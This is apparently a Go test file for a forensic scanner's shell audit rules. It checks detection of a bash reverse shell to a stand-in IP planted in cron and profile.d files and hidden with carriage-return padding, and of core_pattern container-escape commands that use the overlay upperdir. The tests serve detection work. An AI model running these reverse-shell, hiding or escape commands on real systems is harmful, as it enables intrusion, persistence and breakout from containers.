package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestTrailingJunk: a command line that stops parsing after its command (padding and a stray
// redirection after a carriage return, which hides the line from cat and crontab -l; an
// unclosed quote or bracket) is read up to its syntax error, so the reverse shell before it is
// still found; a line with nothing before the error stays silent.
func TestTrailingJunk(t *testing.T) {
	rs := "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"
	for _, tail := range []string{"\r            <pad>   ", " ; )", " && (", " \r\t\t > ", " <<<"} {
		for p, text := range map[string]string{
			"/var/spool/cron/crontabs/root": "* * * * * " + rs + tail + "\n",
			"/etc/cron.d/sync":              "*/5 * * * * root /bin/bash -c '" + rs + "'" + tail + "\n",
			"/etc/profile.d/z.sh":           "(" + rs + " &)" + tail + "\n",
		} {
			fs := scanFile(p, text)
			if len(fs) == 0 || fs[0].Severity < audit.High {
				t.Errorf("%s %q: %v", p, text, fs)
			}
		}
	}
	if fs := scanFile("/etc/cron.d/x", "* * * * * root > \r <x> >\n"); len(fs) > 0 {
		t.Errorf("junk alone: %v", fs)
	}
}

// TestCorePatternOwnDirectory: a core_pattern pipe into a program named by the script's working
// directory, with none of the host's paths looked up, is a crash-handling test's shape: medium,
// not the escape's high; the same with the overlay's upperdir looked up, or a staged program,
// stays high.
func TestCorePatternOwnDirectory(t *testing.T) {
	for text, want := range map[string]audit.Severity{
		"gcc helper.c -o helper\necho \"|$PWD/helper %p %s\" | sudo tee /proc/sys/kernel/core_pattern\n./crash\n":                                  audit.Medium,
		"cd /opt/t && make\necho \"|$(pwd)/dump-handler %e %p\" > /proc/sys/kernel/core_pattern\n":                                                 audit.Medium,
		"D=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /etc/mtab)\ncp x.sh \"$PWD/x.sh\"\necho \"|$D$PWD/x.sh\" > /proc/sys/kernel/core_pattern\n": audit.High,
		"echo \"|$PWD/h %p\" > /proc/sys/kernel/core_pattern\ngrep overlay /proc/self/mountinfo > /tmp/.m\n":                                       audit.High,
		"echo '|/tmp/.x/h.sh %p' > /proc/sys/kernel/core_pattern\n":                                                                                audit.High,
		// a procfs mounted anew, the upperdir from mtab
		"mkdir /p2\nmount -t proc none /p2\nU=$(grep -o 'upperdir=[^,]*' /etc/mtab | cut -d= -f2)\necho \"|$U/x\" > /p2/sys/kernel/core_pattern\n": audit.High,
	} {
		fs := scanFile("/opt/t/run.sh", text)
		if len(fs) == 0 || fs[0].Rule != RuleEscape || fs[0].Severity != want {
			t.Errorf("%q: want %s, got %v", text, want, fs)
		}
	}
}
